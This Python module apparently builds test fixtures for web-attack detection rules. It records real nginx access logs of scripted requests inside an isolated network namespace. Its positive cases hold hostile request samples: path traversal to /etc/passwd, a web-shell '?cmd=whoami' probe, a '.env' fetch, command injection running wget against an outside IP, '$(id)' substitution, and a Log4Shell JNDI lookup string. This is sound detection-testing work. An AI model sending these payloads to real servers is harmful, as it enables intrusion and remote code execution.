"""Access logs of a real nginx, which serves harmless files to harmless requests inside a namespace of its own."""

import contextlib
import os
import shutil
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

CLIENT, OTHER, SERVER = "198.51.100.23", "198.51.100.40", "10.77.10.5"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
FILES = ("index.html", "docs/manual.html", "uploads/photo.php", "uploads/photo.jpg", "app/report.php", "old/.env")
Asked = tuple[str, str, str]
"""Client, request line without its version, and what the client says of itself."""


def _all(client: str, *paths: str, agent: str = BROWSER) -> list[Asked]:
    return [(client, f"GET {path}", agent) for path in paths]


def cases() -> dict[str, list[Asked]]:
    """Requests of each case, by file."""
    everyday = _all(OTHER, "/", "/docs/manual.html?page=2", "/uploads/photo.jpg", "/app/report.php?run=7&do=print")
    missing = [f"/old/page{number}.html" for number in range(25)]
    return {
        "web-traversal/positive": _all(CLIENT, "/docs/../../etc/passwd", "/..%2f..%2fetc", "/x?f=%2e%2e/%2e%2e/a"),
        "web-traversal/negative": [*everyday, *_all(OTHER, "/docs/..manual.html", "/?range=1..5")],
        "web-scanner/positive": _all(CLIENT, "/", agent="sqlmap/1.7 (https://sqlmap.org)"),
        "web-scanner/negative": [*everyday, *_all(OTHER, "/?q=nikto", agent="curl/7.88")],
        "web-not-found/positive": _all(CLIENT, "/none"),
        "web-not-found/negative": everyday,
        "web-guessing/positive": _all(CLIENT, *missing),
        "web-guessing/negative": [
            *everyday,
            *_all(OTHER, *missing[:24], *[missing[0]] * 6),
            *_all(CLIENT, missing[24]),
        ],
        "web-shell/positive": _all(CLIENT, "/uploads/photo.php?cmd=whoami"),
        "web-shell/negative": [*everyday, *_all(OTHER, "/uploads/photo.php", "/uploads/none.php?cmd=whoami")],
        "web-command/positive": [
            *_all(CLIENT, "/?host=1;wget%20http://203.0.113.7/x", "/?a=%24%28id%29"),
            (CLIENT, "GET /", "${jndi:ldap://203.0.113.7/a}"),
        ],
        "web-command/negative": [*everyday, *_all(OTHER, "/?q=wget+manual", "/?price=$5")],
        "web-secret/positive": _all(CLIENT, "/old/.env"),
        "web-secret/negative": [*everyday, *_all(OTHER, "/.env", "/.git/config")],
    }


_SETTINGS = """\
daemon off;
master_process off;
pid {folder}/pid;
error_log {folder}/error.log;
events {{ worker_connections 64; }}
http {{
  access_log {folder}/access.log combined;
  client_body_temp_path {folder}/body;
  proxy_temp_path {folder}/proxy;
  fastcgi_temp_path {folder}/fastcgi;
  uwsgi_temp_path {folder}/uwsgi;
  scgi_temp_path {folder}/scgi;
  server {{ listen {server}:80; root {folder}/www; }}
}}
"""


def requested(asked: list[Asked]) -> list[bytes]:
    """The lines of nginx's log after these requests, one for each, in their order."""
    name = f"tercio-w{os.getpid()}"
    folder = Path(tempfile.mkdtemp(prefix="tercio-record-"))
    try:
        for file in FILES:
            (folder / "www" / file).parent.mkdir(parents=True, exist_ok=True)
            (folder / "www" / file).write_text("nothing\n")
        _ip("netns", "add", name)
        _ip("-n", name, "link", "set", "lo", "up")
        for address in (CLIENT, OTHER, SERVER):
            _ip("-n", name, "addr", "add", f"{address}/32", "dev", "lo")
        with _server(name, folder):
            for each in asked:
                _ask(name, *each)
        return (folder / "access.log").read_bytes().splitlines(keepends=True)
    finally:
        subprocess.run(["ip", "netns", "del", name], check=False, capture_output=True)
        shutil.rmtree(folder)


def _ip(*words: str) -> None:
    subprocess.run(["ip", *words], check=True, capture_output=True)


@contextlib.contextmanager
def _server(name: str, folder: Path) -> Iterator[None]:
    (folder / "nginx.conf").write_text(_SETTINGS.format(folder=folder, server=SERVER))
    command = ["ip", "netns", "exec", name, "nginx", "-p", str(folder), "-c", str(folder / "nginx.conf")]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while not (folder / "pid").exists() and time.monotonic() < deadline and process.poll() is None:
            time.sleep(0.02)
        yield
    finally:
        process.terminate()
        process.wait(timeout=60)


_CLIENT = """\
import socket, sys
with socket.create_connection((sys.argv[2], 80), timeout=10, source_address=(sys.argv[1], 0)) as session:
    session.sendall(sys.stdin.buffer.read())
    while session.recv(65536):
        pass
"""


def _ask(name: str, client: str, line: str, agent: str) -> None:
    request = f"{line} HTTP/1.1\r\nHost: {SERVER}\r\nUser-Agent: {agent}\r\nConnection: close\r\n"
    body = "Content-Length: 0\r\n\r\n" if line.startswith("POST") else "\r\n"
    command = ["ip", "netns", "exec", name, "python3", "-c", _CLIENT, client, SERVER]
    subprocess.run(command, input=(request + body).encode(), check=True, capture_output=True)
